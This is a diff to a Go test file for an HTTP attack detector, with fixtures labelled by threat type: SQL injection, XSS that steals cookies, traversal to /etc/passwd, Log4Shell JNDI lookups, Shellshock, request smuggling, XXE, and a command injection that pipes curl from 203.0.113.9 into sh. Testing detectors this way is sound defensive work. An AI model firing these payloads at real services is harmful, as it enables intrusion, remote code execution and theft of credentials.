@@ -57,7 +57,7 @@ var attackCases = []httpCase{
 	{Name: "sqli time-based in cookie", Want: threat.SQLi, Method: "GET", Target: "/account", Headers: []string{"Cookie: session=abc; uid=1' AND SLEEP(5)-- -"}},
 	{Name: "sqli boolean blind", Want: threat.SQLi, Method: "GET", Target: "/report?id=1%20AND%201%3D1%20AND%20%27a%27%3D%27a"},
 	{Name: "xss script tag", Want: threat.XSS, Method: "GET", Target: "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"},
-	{Name: "xss img onerror form", Want: threat.XSS, Method: "POST", Target: "/comments", Headers: []string{ctForm}, Body: "comment=%3Cimg+src%3Dx+onerror%3Dalert(document.cookie)%3E"},
+	{Name: "xss img onerror form", Want: threat.XSS, Method: "POST", Target: "/comments?post=7", Headers: []string{ctForm}, Body: "comment=%3Cimg+src%3Dx+onerror%3Dalert(document.cookie)%3E"},
 	{Name: "xss svg onload", Want: threat.XSS, Method: "GET", Target: "/hello?name=%3Csvg%2Fonload%3Dalert(1)%3E"},
 	{Name: "xss iframe javascript uri in json", Want: threat.XSS, Method: "PUT", Target: "/api/v1/profile", Headers: []string{ctJSON}, Body: `{"bio": "<iframe src=\"javascript:alert(1)\"></iframe>"}`},
 	{Name: "traversal dot-dot path", Want: threat.PathTraversal, Method: "GET", Target: "/static/../../../../etc/passwd"},
@@ -69,14 +69,14 @@ var attackCases = []httpCase{
 	{Name: "cmd injection and-and", Want: threat.CmdInjection, Method: "GET", Target: "/dns?domain=example.com%26%26whoami"},
 	{Name: "cmd injection substitution json", Want: threat.CmdInjection, Method: "POST", Target: "/api/v1/webhooks", Headers: []string{ctJSON}, Body: `{"host": "$(curl http://203.0.113.9/x.sh|sh)"}`},
 	{Name: "cmd injection backticks", Want: threat.CmdInjection, Method: "GET", Target: "/exec?arg=%60id%60"},
-	{Name: "log4shell user-agent", Want: threat.Log4Shell, Method: "GET", Target: "/", Headers: []string{"User-Agent: ${jndi:ldap://203.0.113.9:1389/a}"}},
+	{Name: "log4shell user-agent", Want: threat.Log4Shell, Method: "GET", Target: "/index.html", Headers: []string{"User-Agent: ${jndi:ldap://203.0.113.9:1389/a}"}},
 	{Name: "log4shell obfuscated header", Want: threat.Log4Shell, Method: "GET", Target: "/api", Headers: []string{"X-Api-Version: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/x}"}},
 	{Name: "log4shell in query", Want: threat.Log4Shell, Method: "GET", Target: "/?q=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.9%2Fa%7D"},
 	{Name: "shellshock user-agent", Want: threat.Shellshock, Method: "GET", Target: "/cgi-bin/status", Headers: []string{"User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'"}},
 	{Name: "shellshock referer", Want: threat.Shellshock, Method: "GET", Target: "/cgi-bin/test.cgi", Headers: []string{"Referer: () { ignored; }; echo; /usr/bin/id"}},
-	{Name: "smuggling cl.te", Want: threat.HTTPSmuggling, Raw: "POST /search HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"},
-	{Name: "smuggling two content-lengths", Want: threat.HTTPSmuggling, Raw: "POST /search HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 11\r\n\r\nq=1GET / HT"},
-	{Name: "smuggling obfuscated te", Want: threat.HTTPSmuggling, Raw: "POST /search HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: xchunked\r\n\r\n5c\r\n"},
+	{Name: "smuggling cl.te", Want: threat.HTTPSmuggling, Raw: "POST /search?v=cl-te HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"},
+	{Name: "smuggling two content-lengths", Want: threat.HTTPSmuggling, Raw: "POST /search?v=cl-cl HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 11\r\n\r\nq=1GET / HT"},
+	{Name: "smuggling obfuscated te", Want: threat.HTTPSmuggling, Raw: "POST /search?v=te-obf HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: xchunked\r\n\r\n5c\r\n"},
 	{Name: "xxe external entity", Want: threat.XXE, Method: "POST", Target: "/api/v1/import", Headers: []string{"Content-Type: application/xml"}, Body: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`},
 	{Name: "nosql operator injection", Want: threat.NoSQLInjection, Method: "GET", Target: "/login?username%5B%24ne%5D=admin&password%5B%24ne%5D=x"},
 	{Name: "crlf header injection", Want: threat.CRLFInjection, Method: "GET", Target: "/redirect?to=%0d%0aSet-Cookie:%20session%3Dattacker"},
@@ -209,6 +209,16 @@ func TestThreatFixturesOffline(t *testing.T) {
 			t.Fatalf("%s: %v", c.Name, err)
 		}
 		return h.Inspect(&r, nil)
+	}
+	// Each attack's request line is unique, so the lab test can tell from nginx's access log
+	// whether it got through.
+	lines := map[string]httpCase{}
+	for _, c := range append(append([]httpCase(nil), benignCases...), attackCases...) {
+		l := requestLine(c)
+		if other, dup := lines[l]; dup && (c.Want != "" || other.Want != "") {
+			t.Errorf("request line %q of %q is also %q's (make the attack's target unique)", l, c.Name, other.Name)
+		}
+		lines[l] = c
 	}
 	named := 0
 	for _, c := range attackCases {
